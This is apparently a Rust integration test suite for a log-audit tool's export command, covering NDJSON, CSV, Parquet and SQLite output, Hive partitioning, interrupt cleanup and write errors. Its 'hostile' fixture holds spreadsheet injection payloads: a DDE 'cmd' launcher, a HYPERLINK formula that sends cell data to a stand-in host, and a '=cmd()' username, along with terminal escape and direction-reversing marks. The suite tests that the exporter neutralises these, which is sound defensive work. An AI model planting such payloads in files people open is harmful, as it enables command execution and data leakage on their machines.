//! `sealedlog-audit export`: what is exported is what DuckDB and sqlite3 load.
#![cfg(feature = "audit")]
#![forbid(unsafe_code)]

mod common;

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use common::keys;
use common::lines::Lines;
use common::sealed::{Place, seal_all};
use common::tools::{SOON, must, run, tool, wait_for};
use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;
use serde_json::{Value, json};

const FORMATS: [&str; 4] = ["ndjson", "csv", "parquet", "sqlite"];

fn export(place: &Place, args: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_sealedlog-audit"));
    command.arg("export").arg(place.path("log")).arg("--key").arg(&keys::sequoia_v6().secret).arg("--trust-first");
    command.args(args);
    command
}

/// Exports to a file of the format's name; it must have nothing to tell but the number of rows.
#[track_caller]
fn exported(place: &Place, format: &str, args: &[&str], rows: usize) -> PathBuf {
    let path = place.path(&format!("rows.{format}"));
    let output = export(place, &["--format", format, "--force", "-o"]).arg(&path).args(args).output().unwrap();
    let told = String::from_utf8(output.stderr).unwrap();
    assert!(output.status.success() && output.stdout.is_empty(), "{told}");
    assert_eq!(told, format!("sealedlog-audit: {rows} rows\n"));
    path
}

/// What DuckDB answers: an array of rows, each an array.
#[track_caller]
fn duckdb(query: &str) -> Value {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/duckdb");
    assert!(folder.is_dir(), "DuckDB is missing: run scripts/setup.sh");
    let script = "import duckdb, json, sys\n\
        print(json.dumps([list(row) for row in duckdb.sql(sys.argv[1]).fetchall()], default=str))";
    let answer = must(tool("python3").env("PYTHONPATH", folder).args(["-c", script, query]), b"");
    serde_json::from_slice(&answer).unwrap()
}

#[track_caller]
fn sqlite(database: &Path, query: &str) -> Value {
    let answer = must(tool("sqlite3").arg("-json").arg(database).arg(query), b"");
    if answer.is_empty() { json!([]) } else { serde_json::from_slice(&answer).unwrap() }
}

/// What DuckDB reads a file with.
fn table(format: &str, path: &Path) -> String {
    let path = path.display();
    match format {
        "ndjson" => format!("read_json('{path}', format = 'newline_delimited', sample_size = -1)"),
        "csv" => format!("read_csv('{path}', sample_size = -1)"),
        _ => format!("read_parquet('{path}')"),
    }
}

fn place_with(lines: &[u8], log: &str) -> Place {
    let place = Place::new(&[&keys::sequoia_v6().public]);
    seal(&place, lines, log);
    place
}

fn seal(place: &Place, lines: &[u8], log: &str) {
    let ended = seal_all(&mut place.seal_to(log), lines);
    assert!(ended.status.success() && ended.stderr.is_empty(), "{ended:?}");
}

/// What DuckDB would else find out from lines that are made to mislead.
const CSV: &str = "delim = ',', quote = '\"', escape = '\"', header = true, all_varchar = true, parallel = false";

/// How many lines of the plain text have this, by the real grep.
fn count(plain: &[u8], pattern: &str) -> usize {
    // Its exit status is that of an error where there are none.
    let counted = run(tool("grep").args(["-a", "-c", "-E", pattern]), plain).unwrap_or_else(|_| b"0\n".to_vec());
    String::from_utf8(counted).unwrap().trim().parse().unwrap()
}

#[test]
fn every_format_is_loaded_with_the_same_counts() {
    let lines: Vec<Vec<u8>> = Lines::new(11).take(5000).collect();
    let plain = lines.concat();
    let place = place_with(&plain, "access.log");
    let expected = [
        count(&plain, ""),
        count(&plain, "\" 404 [0-9]+ "),
        count(&plain, "^192\\.0\\.2\\."),
        count(&plain, "^[^ ]+ - alice "),
        count(&plain, "\"curl"),
    ];
    assert!(expected.iter().all(|count| *count > 0), "{expected:?}");
    let query = "count(*), \
        count(*) FILTER (WHERE \"http.response.status_code\" = 404), \
        count(*) FILTER (WHERE \"source.ip\" LIKE '192.0.2.%'), \
        count(*) FILTER (WHERE \"user.name\" = 'alice'), \
        count(*) FILTER (WHERE \"user_agent.original\" LIKE 'curl%')";
    for format in ["ndjson", "csv", "parquet"] {
        let path = exported(&place, format, &[], lines.len());
        assert_eq!(duckdb(&format!("SELECT {query} FROM {}", table(format, &path))), json!([expected]), "{format}");
    }
    let database = exported(&place, "sqlite", &[], lines.len());
    let rows = sqlite(&database, &format!("SELECT json_array({query}) AS counts FROM lines"));
    assert_eq!(rows[0]["counts"], serde_json::to_string(&expected).unwrap());
    // To standard output the same bytes.
    for format in ["ndjson", "csv"] {
        let output = export(&place, &["--format", format]).output().unwrap();
        assert!(output.status.success() && output.stderr.is_empty());
        assert!(output.stdout == fs::read(place.path(&format!("rows.{format}"))).unwrap(), "{format}");
    }
    // A selection is that of search.
    let selected = ["--field", "status=404", "--field", "client=192.0.2.0/24"];
    let both = count(&plain, "^192\\.0\\.2\\..*\" 404 [0-9]+ ");
    for format in FORMATS {
        exported(&place, format, &selected, both);
    }
}

#[test]
fn an_analyst_can_filter_on_evidence() {
    let lines: Vec<Vec<u8>> = Lines::new(12).take(300).collect();
    let place = place_with(&lines.concat(), "access.log");
    let parquet = exported(&place, "parquet", &[], 300);
    let table = table("parquet", &parquet);
    let types = duckdb(&format!("SELECT column_name, column_type FROM (DESCRIBE SELECT * FROM {table})"));
    let kind = |name: &str| types.as_array().unwrap().iter().find(|row| row[0] == name).unwrap()[1].as_str().unwrap().to_owned();
    for (column, expected) in [
        ("@timestamp", "TIMESTAMP WITH TIME ZONE"),
        ("sealedlog.sealed", "TIMESTAMP WITH TIME ZONE"),
        ("sealedlog.epoch", "BIGINT"),
        ("sealedlog.slot", "BIGINT"),
        ("http.response.status_code", "BIGINT"),
        ("source.ip", "VARCHAR"),
        ("event.original", "VARCHAR"),
    ] {
        assert_eq!(kind(column), expected, "{column}");
    }
    let opened = common::sealed::Log::whole(&place.path("log/access.log.pgp"), &keys::sequoia_v6().secret);
    let stored = opened.entries.iter().filter_map(|entry| match &entry.content {
        common::sealed::Content::Line(line) => Some((entry.place, line.strip_suffix(b"\n").unwrap())),
        common::sealed::Content::Control(_) => None,
    });
    let rows = duckdb(&format!(
        "SELECT \"sealedlog.stream\", \"sealedlog.epoch\", \"sealedlog.slot\", \"event.original\", \"sealedlog.verification\", \
         abs(epoch(now()) - epoch(\"sealedlog.sealed\")) < 3600 FROM {table}"
    ));
    let mut seen = 0;
    for (row, ((stream, epoch, slot), line)) in rows.as_array().unwrap().iter().zip(stored) {
        assert_eq!(*row, json!([stream.to_string(), epoch, slot, String::from_utf8_lossy(line), "trusted", true]));
        seen += 1;
    }
    assert_eq!(seen, 300);
    // Times are those of the lines, to the second.
    let (least, most) = (String::from_utf8_lossy(&lines[0]), String::from_utf8_lossy(&lines[299]));
    let stamp = |line: &str| line.split(['[', ']']).nth(1).unwrap().to_owned();
    let got = duckdb(&format!(
        "SELECT strftime(min(\"@timestamp\") AT TIME ZONE 'UTC', '%d/%b/%Y:%H:%M:%S +0000'), \
         strftime(max(\"@timestamp\") AT TIME ZONE 'UTC', '%d/%b/%Y:%H:%M:%S +0000') FROM {table}"
    ));
    assert_eq!(got, json!([[stamp(&least), stamp(&most)]]));
    // Without a root that is said of each row; what is not in its place is there on request only.
    let mut unrooted = Command::new(env!("CARGO_BIN_EXE_sealedlog-audit"));
    unrooted.arg("export").arg(place.path("log")).arg("--key").arg(&keys::sequoia_v6().secret).args(["--format", "ndjson"]);
    let rows = unrooted.output().unwrap().stdout;
    assert!(
        rows.split(|byte| *byte == b'\n')
            .filter(|row| !row.is_empty())
            .all(|row| { serde_json::from_slice::<Value>(row).unwrap()["sealedlog.verification"] == "unanchored" })
    );
    let file = place.path("log/access.log.pgp");
    let entry = &opened.entries[100];
    let content = fs::read(&file).unwrap();
    fs::write(&file, [&content[..], &content[entry.offset as usize..][..entry.length as usize]].concat()).unwrap();
    for (all, counts) in [(&[][..], json!([["trusted", 300]])), (&["--all"], json!([["elsewhere", 1], ["trusted", 300]]))] {
        let path = place.path("all.parquet");
        let output = export(&place, &["--format", "parquet", "--force", "-o"]).arg(&path).args(all).output().unwrap();
        assert_eq!(output.status.code(), Some(1), "a copy is an alarm");
        let query = "SELECT \"sealedlog.verification\", count(*) FROM read_parquet";
        assert_eq!(duckdb(&format!("{query}('{}') GROUP BY 1 ORDER BY 1", path.display())), counts);
    }
}

/// Formulas, quotes, newlines that were escaped, NUL, broken UTF-8, marks that turn the direction, and a line of 3 MiB.
fn hostile() -> Vec<Vec<u8>> {
    let mut lines: Vec<Vec<u8>> = [
        &b"=HYPERLINK(\"http://x/\"&A1,\"click\")"[..],
        b"+1+cmd|' /C calc'!A0",
        b"-2+3",
        b"@SUM(1+1)",
        b"\tindented",
        b"a,\"b\",'c';\"\"\r",
        b"\xff\xfe broken \xc3",
        b"\x1b[2J\xe2\x80\xae turned",
        b"NUL \0 in it",
        b"{\"json\":[1,2]}",
        b"\\N",
        b"",
        b"2026-02-01T12:00:00Z web sshd[1]: Failed password for =cmd() from 192.0.2.7 port 4711 ssh2",
        b"192.0.2.7 - - [01/Feb/2026:12:00:00 +0000] \"GET /\\n\\\"x\\\" HTTP/1.1\" 200 5 \"-\" \"=1+1\\r\\nx\"",
    ]
    .iter()
    .map(|line| [line, &b"\n"[..]].concat())
    .collect();
    lines.push([vec![b'"'; 3 << 20], b"\n".to_vec()].concat());
    lines
}

#[test]
fn hostile_lines_come_through_every_format() {
    let lines = hostile();
    let place = place_with(&lines.concat(), "x.log");
    let texts: Vec<String> =
        lines.iter().map(|line| String::from_utf8_lossy(line.strip_suffix(b"\n").unwrap()).into_owned()).collect();
    for format in ["ndjson", "csv", "parquet"] {
        let path = exported(&place, format, &[], lines.len());
        let table = match format {
            // The longest line is longer than what it takes for a line unasked.
            "csv" => format!("read_csv('{}', max_line_size = 20000000, {CSV})", path.display()),
            _ => table(format, &path),
        };
        let rows = duckdb(&format!("SELECT \"event.original\" FROM {table}"));
        let got: Vec<&str> = rows.as_array().unwrap().iter().map(|row| row[0].as_str().unwrap_or_default()).collect();
        assert_eq!(got.len(), texts.len(), "{format}");
        for (got, text) in got.iter().zip(&texts) {
            let formula = format == "csv" && text.starts_with(['=', '+', '-', '@', '\t', '\r']);
            let expected = if formula { format!("'{text}") } else { text.clone() };
            assert!(*got == expected, "{format}: {:.200?} {:.200?}", got, expected);
        }
        let users = duckdb(&format!("SELECT \"user.name\" FROM {table} WHERE \"user.name\" IS NOT NULL AND \"user.name\" <> ''"));
        assert_eq!(users, json!([[if format == "csv" { "'=cmd()" } else { "=cmd()" }]]), "{format}");
    }
    let database = exported(&place, "sqlite", &[], lines.len());
    let rows = sqlite(&database, "SELECT hex(\"event.original\") AS line FROM lines ORDER BY rowid");
    for (row, text) in rows.as_array().unwrap().iter().zip(&texts) {
        let hex: String = text.bytes().map(|byte| format!("{byte:02X}")).collect();
        assert!(row["line"] == hex.as_str(), "{text:.200?}");
    }
    assert_eq!(sqlite(&database, "PRAGMA integrity_check")[0]["integrity_check"], "ok");
    // RFC 4180: what Python's reader makes of it, strictly.
    let script = "import csv, sys\ncsv.field_size_limit(1 << 30)\n\
        rows = list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8'), strict=True))\n\
        print(len(rows), len(set(map(len, rows))))";
    let read = must(tool("python3").args(["-c", script]).arg(place.path("rows.csv")), b"");
    assert_eq!(String::from_utf8(read).unwrap(), format!("{} 1\n", lines.len() + 1));
}

#[test]
fn partitions_are_what_hive_has() {
    let place = Place::new(&[&keys::sequoia_v6().public]);
    let mut counts = std::collections::BTreeMap::new();
    for log in ["a.log", "we%%ird =log"] {
        let mut lines = String::new();
        for number in 0..3000 {
            let day = 1 + number % 80;
            let (month, day) = (1 + day / 29, 1 + day % 28);
            lines += &format!("2026-{month:02}-{day:02}T12:00:00Z web app[1]: number {number}\n");
            *counts.entry((log, format!("2026-{month:02}-{day:02}"))).or_insert(0) += 1;
        }
        seal(&place, lines.as_bytes(), log);
    }
    let folder = place.path("rows");
    let output = export(&place, &["--format", "parquet", "--partition", "-o"]).arg(&folder).output().unwrap();
    assert!(output.status.success(), "{output:?}");
    let rows = duckdb(&format!(
        "SELECT log, day::VARCHAR, count(*), count(DISTINCT \"sealedlog.log\") FROM read_parquet('{}/**/*.parquet', hive_partitioning = true) \
         GROUP BY ALL ORDER BY ALL",
        folder.display()
    ));
    let logs = fs::canonicalize(place.path("log")).unwrap();
    let expected: Vec<_> =
        counts.iter().map(|((log, day), count)| json!([format!("{}/{log}", logs.display()), day, count, 1])).collect();
    assert_eq!(rows, json!(expected));
    let files = must(tool("find").arg(&folder).args(["-name", "part-0.parquet"]), b"");
    assert_eq!(files.iter().filter(|byte| **byte == b'\n').count(), counts.len());
    let again = export(&place, &["--format", "parquet", "--partition", "-o"]).arg(&folder).output().unwrap();
    assert_eq!(again.status.code(), Some(2));
    assert!(String::from_utf8(again.stderr).unwrap().contains("rows is there"));
}

#[test]
fn what_is_interrupted_leaves_nothing() {
    let place = place_with(&Lines::file(13, 400_000), "access.log");
    fs::create_dir(place.path("out")).unwrap();
    for (format, signal) in [("parquet", Signal::SIGINT), ("sqlite", Signal::SIGTERM), ("csv", Signal::SIGHUP)] {
        let path = place.path("out/rows");
        let mut command = export(&place, &["--format", format, "-o"]);
        let mut child = command.arg(&path).stderr(Stdio::piped()).spawn().unwrap();
        let names = || common::sealed::names(&place.path("out"));
        assert!(wait_for(SOON, || !names().is_empty()));
        assert!(names()[0].starts_with(".rows.") && names()[0].ends_with(".part"), "{:?}", names());
        kill(Pid::from_raw(child.id() as i32), signal).unwrap();
        let told = std::io::read_to_string(child.stderr.take().unwrap()).unwrap();
        assert_eq!(child.wait().unwrap().code(), Some(2), "{format}: {told}");
        assert!(told.contains("error: interrupted"), "{format}: {told}");
        assert_eq!(names(), [""; 0]);
    }
}

#[test]
fn what_cannot_be_written_is_said() {
    let place = place_with(b"one\n", "x.log");
    let path = place.path("there");
    fs::write(&path, "another's").unwrap();
    let error = |args: &[&str]| -> (Option<i32>, String) {
        let Output { status, stderr, .. } = export(&place, args).output().unwrap();
        (status.code(), String::from_utf8(stderr).unwrap())
    };
    let there = path.to_str().unwrap();
    for (args, told) in [
        (&["--format", "csv", "-o", there][..], "there is there"),
        (&["--format", "csv", "-o", "/nowhere/rows"], "cannot write /nowhere/rows"),
        (&["--format", "sqlite"], "name a file with -o"),
        (&["--format", "parquet"], "name a file with -o"),
        (&["--format", "csv", "--partition", "-o", "x"], "only Parquet can be partitioned"),
        (&["--format", "xml"], "possible values: ndjson, csv, parquet, sqlite"),
    ] {
        let (status, stderr) = error(args);
        assert!(status == Some(2) && stderr.contains(told), "{args:?}: {stderr}");
    }
    assert_eq!(fs::read(&path).unwrap(), b"another's");
    // A full disk.
    let (status, stderr) = error(&["--format", "csv", "-o", "/dev/full"]);
    assert!(status == Some(2) && stderr.contains("is there"), "{stderr}");
}
